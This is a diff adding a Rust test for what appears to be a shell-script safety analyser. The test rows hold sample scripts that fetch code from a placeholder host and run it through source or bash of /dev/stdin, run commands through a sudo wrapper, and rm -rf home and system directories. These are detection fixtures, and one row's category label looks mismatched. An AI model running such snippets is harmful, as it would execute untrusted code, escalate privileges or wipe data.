@@ -4188,3 +4188,101 @@ fn functions_passed_as_values_are_called() {
     ];
     check_all(rows);
 }
+
+/// Input a shell runs as code and arguments a wrapper runs: `source` (or `bash`) of
+/// `/dev/stdin`, `/dev/fd/0` or `/proc/self/fd/0` runs what a here-string or a pipe brings in,
+/// a download printed by a function included; a runner function that runs `"$@"` with `sudo`
+/// on one branch runs its arguments elevated; `read -a` of a function's printed words (a
+/// `case` of literal lists) fills the array with those words.
+#[test]
+fn shell_input_run_as_code_and_elevating_wrappers() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "#!/bin/sh\nget() {\n  curl -fsSL \"$1\"\n}\n\
+             env_code=\"$(get https://cfg.example.org/profile.sh)\"\n\
+             . /dev/fd/0 <<< \"$env_code\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "curl -fsSL https://cfg.example.org/profile.sh | source /proc/self/fd/0\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "bash /dev/stdin <<< \"$(wget -qO- https://cfg.example.org/i.sh)\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\ndl=(wget -q -O -)\ngrab() { \"${dl[@]}\" \"$1\"; }\n\
+             setup=\"$(grab https://cfg.example.org/bootstrap)\"\n\
+             source /dev/stdin <<< \"$setup\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "source /dev/stdin <<< 'export LC_ALL=C'\necho \"$LC_ALL\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "get() {\n  curl -fsSL \"$1\"\n}\n\
+             ver=\"$(get https://cfg.example.org/VERSION)\"\necho \"latest: $ver\"\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Sh,
+            "priv() {\n  if [ \"$(id -u)\" = 0 ]; then\n    \"$@\"\n  else\n    sudo -E \"$@\"\n  fi\n}\n\
+             priv chown -R \"$(id -un)\" /usr/local/lib\n",
+            Dangerous,
+            "escape",
+        ),
+        (
+            Sh,
+            "run() {\n  if [ -n \"$DRY\" ]; then\n    echo \"$@\"\n  else\n    \"$@\"\n  fi\n}\n\
+             run chown -R \"$(id -un)\" ./build\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "dirs_for() {\n  case \"$1\" in\n    light) echo \"out tmp\" ;;\n\
+             \x20   full) echo \"out tmp $HOME/.local/state $HOME/.npm\" ;;\n  esac\n}\n\
+             clean() { for d in \"$@\"; do rm -rf \"$d\"; done; }\n\
+             level=\"${1:-light}\"\nread -ra doomed <<< \"$(dirs_for \"$level\")\"\n\
+             clean \"${doomed[@]}\"\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "dirs_for() {\n  case \"$1\" in\n    light) echo \"out tmp\" ;;\n\
+             \x20   full) echo \"out tmp .cache/app\" ;;\n  esac\n}\n\
+             clean() { for d in \"$@\"; do rm -rf \"$d\"; done; }\n\
+             level=\"${1:-light}\"\nread -ra doomed <<< \"$(dirs_for \"$level\")\"\n\
+             clean \"${doomed[@]}\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/usr/bin/env bash\nscope=\"${SCOPE:-tmp}\"\n\
+             paths_of() {\n  case \"$1\" in\n    tmp) printf '%s\\n' \"tmp .pytest_cache\" ;;\n\
+             \x20   all) printf '%s\\n' \"tmp /var/lib/app /etc/app\" ;;\n\
+             \x20   *) printf '%s\\n' \"\" ;;\n  esac\n}\n\
+             purge() {\n  local p\n  for p in \"$@\"; do rm -rf -- \"$p\"; done\n}\n\
+             read -r -a victims <<< \"$(paths_of \"$scope\")\"\npurge \"${victims[@]}\"\n",
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
